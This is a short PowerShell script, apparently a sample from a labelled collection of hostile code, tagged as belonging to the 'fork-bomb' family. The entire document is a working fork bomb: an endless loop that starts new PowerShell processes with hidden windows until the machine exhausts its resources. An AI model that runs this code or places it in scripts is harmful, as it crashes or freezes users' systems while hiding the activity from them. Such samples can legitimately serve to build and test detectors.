# description: Starts new PowerShell processes in an endless loop.
# family: fork-bomb
while ($true) {
    Start-Process powershell.exe -ArgumentList '-NoProfile' -WindowStyle Hidden
}
